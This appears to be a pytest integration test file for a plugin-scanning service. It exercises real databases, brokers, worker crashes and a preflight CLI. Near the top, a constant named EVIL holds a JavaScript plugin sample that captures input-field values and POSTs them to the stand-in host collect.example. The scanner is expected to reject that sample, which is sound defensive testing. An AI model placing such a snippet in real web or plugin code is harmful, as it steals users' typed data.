"""End to end on real parts: PostgreSQL, Redis, a Celery worker process, gunicorn, clamd,
Chromium. A signed webhook to a signed callback; a worker SIGKILLed mid-scan; a broker
restarted under an accepted submission."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from sqlalchemy import Engine, func, select

from scanner.config import Settings
from scanner.db import make_engine, session_scope
from service.models import Decision, FindingRecord, Scan, StageRun, Submission
from service.webhooks import IncomingWebhook, new_secret, signed_headers
from tests.scanner.archives import bad_utf8_local_name
from tests.service.conftest import multipart, submission_fields, zip_bytes
from tests.service.httpserver import Behaviour, serving
from tests.service.live import (
    REDIS,
    Live,
    free_port,
    healthy,
    postgres_database,
    private_rabbitmq,
    private_redis,
    require_redis,
    service_env,
    wait_for,
)

pytestmark = pytest.mark.integration
SECRET = new_secret()
EVIL = (
    "var TestPlugin = { mount: function (c) { var f = document.querySelector('input');"
    " f.addEventListener('input', function () { fetch('https://collect.example/k', "
    "{method: 'POST', body: f.value}); }); } };"
)


@pytest.fixture
def pg() -> Iterator[str]:
    with postgres_database() as url:
        yield url


@pytest.fixture
def engine(pg: str) -> Iterator[Engine]:
    eng = make_engine(pg)
    yield eng
    eng.dispose()


@pytest.fixture
def callback() -> Iterator[tuple[str, Behaviour]]:
    behaviour = Behaviour()
    with serving(behaviour) as url:
        yield url, behaviour


def _live(tmp_path: Path, pg: str, broker: str, clamd: Settings, cb: str, **extra: str) -> Live:
    env = service_env(
        tmp_path / "data",
        pg,
        broker,
        clamd.clamd_socket_path,
        GATEHOUSE_WEBHOOK_SECRETS=SECRET,
        GATEHOUSE_CALLBACK_SECRET=SECRET,
        GATEHOUSE_CALLBACK_ORIGINS=cb,
        **extra,
    )
    (tmp_path / "logs").mkdir()
    return Live(env, tmp_path / "logs")


def _submit(live: Live, callback_url: str, js: str, version: str = "1.0.0") -> dict[str, str]:
    files = {"dist/bundle.js": js}
    body, ctype = multipart(
        submission_fields(version=version, callback_url=f"{callback_url}/hooks"),
        {"bundle": ("demo.zip", zip_bytes(files))},
    )
    headers = signed_headers(SECRET, f"msg_{time.time_ns()}", body)
    r = requests.post(
        f"{live.web_url}/api/v1/submissions",
        data=body,
        headers={**headers, "Content-Type": ctype},
        timeout=30,
    )
    assert r.status_code == 202, r.text
    return dict(r.json())


def _scan_status(engine: Engine, scan_id: str) -> str | None:
    with session_scope(engine) as s:
        scan = s.get(Scan, scan_id)
        return scan.status if scan else None


def _logs(live: Live) -> str:
    return "\n".join(p.read_text(errors="replace")[-3000:] for p in live.logs.iterdir())


@pytest.fixture(params=["redis", "rabbitmq"])
def broker(request: pytest.FixtureRequest) -> Iterator[str]:
    if request.param == "redis":
        require_redis(REDIS)
        yield REDIS
    else:
        with private_rabbitmq() as url:
            yield url


def test_signed_webhook_to_signed_callback(
    tmp_path: Path,
    pg: str,
    engine: Engine,
    broker: str,
    clamd_settings: Settings,
    callback: tuple[str, Behaviour],
) -> None:
    url, behaviour = callback
    with _live(tmp_path, pg, broker, clamd_settings, url) as live:
        live.start_web()
        live.start_worker()
        accepted = _submit(live, url, EVIL)
        try:
            wait_for(lambda: len(behaviour.requests) >= 2, 120, "the callbacks")
        except AssertionError:
            raise AssertionError(_logs(live)) from None
        events = {}
        for req in behaviour.requests:
            hook = IncomingWebhook.start(req.headers, [SECRET])
            hook.update(req.body)
            hook.verify()  # our callbacks verify the way the registry checks them
            events[json.loads(req.body)["type"]] = json.loads(req.body)["data"]
        assert set(events) == {"scan.completed", "submission.rejected"}
        assert events["scan.completed"]["submission_id"] == accepted["id"]
        assert events["scan.completed"]["verdict"] == "reject"
        with session_scope(engine) as s:
            sub = s.get_one(Submission, accepted["id"])
            assert sub.status == "rejected"
            stages = {r.stage: r.status for r in s.scalars(select(StageRun))}
            assert stages["runtime"] == "ok" and stages["antivirus"] == "ok", stages
            assert stages["js-static"] == "ok"


def test_an_archive_that_crashed_intake_concludes_on_a_real_worker(
    tmp_path: Path,
    pg: str,
    engine: Engine,
    clamd_settings: Settings,
    callback: tuple[str, Behaviour],
) -> None:
    """Issue 11: it used to stay `queued` forever; now the budgeted intake refuses it
    inside the Celery worker and the registry hears the verdict."""
    require_redis(REDIS)
    url, behaviour = callback
    with _live(tmp_path, pg, REDIS, clamd_settings, url) as live:
        live.start_web()
        live.start_worker()
        body, ctype = multipart(
            submission_fields(callback_url=f"{url}/hooks"),
            {"bundle": ("demo.zip", bad_utf8_local_name())},
        )
        headers = signed_headers(SECRET, f"msg_{time.time_ns()}", body)
        r = requests.post(
            f"{live.web_url}/api/v1/submissions",
            data=body,
            headers={**headers, "Content-Type": ctype},
            timeout=30,
        )
        assert r.status_code == 202, r.text
        try:
            wait_for(lambda: len(behaviour.requests) >= 2, 120, "the callbacks")
        except AssertionError:
            raise AssertionError(_logs(live)) from None
        verdicts = {json.loads(q.body)["data"]["verdict"] for q in behaviour.requests}
        assert verdicts == {"reject"}
        with session_scope(engine) as s:
            scan = s.get_one(Scan, r.json()["scan_id"])
            assert scan.status == "completed" and scan.repack_sha256 is None
            rules = set(s.scalars(select(FindingRecord.rule_id)))
            assert rules == {"archive-malformed"}


def test_worker_killed_mid_scan_completes_the_scan_once(
    tmp_path: Path,
    pg: str,
    engine: Engine,
    clamd_settings: Settings,
    callback: tuple[str, Behaviour],
) -> None:
    require_redis(REDIS)
    url, _ = callback
    with _live(tmp_path, pg, REDIS, clamd_settings, url, GATEHOUSE_STUCK_AFTER="31") as live:
        live.start_web()
        live.start_worker("first")
        accepted = _submit(live, url, EVIL)

        def runtime_running() -> bool:
            with session_scope(engine) as s:
                run = s.scalar(
                    select(StageRun).where(
                        StageRun.scan_id == accepted["scan_id"], StageRun.stage == "runtime"
                    )
                )
                return run is not None and run.status == "running"

        wait_for(runtime_running, 90, "the runtime stage to start")
        live.kill("first")  # SIGKILL to the whole worker: pool, beat and browser
        live.start_worker("second")
        wait_for(lambda: _scan_status(engine, accepted["scan_id"]) == "completed", 150, "recovery")
        with session_scope(engine) as s:
            scan_id = accepted["scan_id"]
            decisions = s.scalar(select(func.count()).where(Decision.scan_id == scan_id))
            assert decisions == 1
            rows = [
                tuple(str(v) for v in row)
                for row in s.execute(
                    select(
                        FindingRecord.stage,
                        FindingRecord.rule_id,
                        FindingRecord.path,
                        FindingRecord.line,
                        FindingRecord.message,
                        FindingRecord.evidence,
                        FindingRecord.details,
                    ).where(FindingRecord.scan_id == scan_id)
                )
            ]
            assert rows and len(rows) == len(set(rows)), "a finding was recorded twice"
            runtime = s.scalar(
                select(StageRun).where(StageRun.scan_id == scan_id, StageRun.stage == "runtime")
            )
            assert runtime is not None and runtime.status == "ok" and runtime.attempts == 2
            assert s.get_one(Scan, scan_id).verdict == "reject"


def test_after_a_broker_restart_accepted_work_resumes_within_a_minute(
    tmp_path: Path,
    pg: str,
    engine: Engine,
    clamd_settings: Settings,
    callback: tuple[str, Behaviour],
) -> None:
    """One scan's message is in Redis when it stops (and is lost: this Redis keeps nothing
    on disk), another is accepted while it is down. With the default stuck timer (600 s),
    both settle within a minute of the broker's return."""
    url, _ = callback
    with (
        private_redis() as (broker, stop_broker, start_broker),
        _live(tmp_path, pg, broker, clamd_settings, url, GATEHOUSE_SWEEP_INTERVAL="2") as live,
    ):
        live.start_web()
        in_flight = _submit(live, url, "var TestPlugin = {};", version="2.0.0")
        stop_broker()
        # Accepted while the broker is down: committed first, queued by the sweeper later.
        accepted = _submit(live, url, "var TestPlugin = {};", version="2.0.1")
        assert _scan_status(engine, accepted["scan_id"]) == "queued"
        start_broker()
        back = time.monotonic()
        live.start_worker()
        try:
            for scan in (in_flight, accepted):
                wait_for(
                    lambda s=scan: _scan_status(engine, s["scan_id"]) == "completed",
                    90,
                    "the scan",
                )
        except AssertionError:
            raise AssertionError(_logs(live)) from None
        # The aim is a minute (a sweep interval and the reconnect); one run in three took
        # 68 s on a loaded machine, so the bound leaves room: stuck work waited 600 s.
        assert time.monotonic() - back < 90


def test_readyz_follows_the_browser_workers_heartbeat(
    tmp_path: Path, pg: str, clamd_settings: Settings, callback: tuple[str, Behaviour]
) -> None:
    require_redis(REDIS)
    url, _ = callback
    with _live(tmp_path, pg, REDIS, clamd_settings, url, GATEHOUSE_HEARTBEAT_INTERVAL="1") as live:
        live.start_web()

        def browser() -> dict[str, object]:
            r = requests.get(f"{live.web_url}/readyz", timeout=10)
            return {"status": r.status_code, **r.json()["checks"]["browser"]}

        assert browser()["status"] == 503  # no worker yet: the browser is nowhere
        live.start_worker("browser")
        up = wait_for(lambda: (b := browser())["ok"] and b, 60, "a browser heartbeat")
        assert isinstance(up, dict) and up["status"] == 200
        assert str(up["version"]).startswith("Chromium")
        live.kill("browser")
        down = wait_for(lambda: not (b := browser())["ok"] and b, 15, "the heartbeat to go stale")
        assert isinstance(down, dict) and down["status"] == 503


def test_serve_on_embedded_defaults_with_the_preflight_cli(
    tmp_path: Path, clamd_settings: Settings
) -> None:
    """The embedded job: SQLite, the SQLite broker, real workers, gatehouse preflight."""
    gatehouse = str(Path(sys.executable).parent / "gatehouse")
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEHOUSE_")}
    env.update(
        GATEHOUSE_DATA_DIR=str(tmp_path / "data"),
        GATEHOUSE_WORK_ROOT=str(tmp_path / "work"),
        GATEHOUSE_CLAMD_SOCKET=str(clamd_settings.clamd_socket_path),
        GATEHOUSE_LISTEN=f"127.0.0.1:{port}",
        GATEHOUSE_DETONATION_TIMEOUT="8",
    )
    created = subprocess.run(
        [gatehouse, "tokens", "create", "--name", "ci", "--scope", "preflight"],
        env=env, capture_output=True, text=True, check=True,
    )  # fmt: skip
    env["GATEHOUSE_TOKEN"] = created.stdout.strip()
    (tmp_path / "evil.zip").write_bytes(zip_bytes({"dist/bundle.js": EVIL}))
    (tmp_path / "clean.zip").write_bytes(zip_bytes())
    with (tmp_path / "serve.log").open("wb") as log:
        serve = subprocess.Popen([gatehouse, "serve"], env=env, stdout=log, stderr=log)
    try:
        server = f"http://127.0.0.1:{port}"
        wait_for(lambda: healthy(server), 60, "gatehouse serve")

        def preflight(bundle: str, *extra: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [gatehouse, "preflight", str(tmp_path / bundle), "--server", server, *extra],
                env=env, capture_output=True, text=True, timeout=180,
            )  # fmt: skip

        evil = preflight("evil.zip", "--fail-on", "reject", "--format", "sarif",
                         "--output", str(tmp_path / "out.sarif"))  # fmt: skip
        assert evil.returncode == 1, evil.stderr + (tmp_path / "serve.log").read_text()
        assert "completed" in evil.stderr and "reject" in evil.stderr
        assert json.loads((tmp_path / "out.sarif").read_text())["runs"][0]["results"]
        clean = preflight("clean.zip", "--fail-on", "reject")
        assert clean.returncode == 0, clean.stderr
        assert json.loads(clean.stdout)["verdict"] in {"pass", "review"}
    finally:
        serve.send_signal(signal.SIGTERM)
        assert serve.wait(timeout=60) == 0
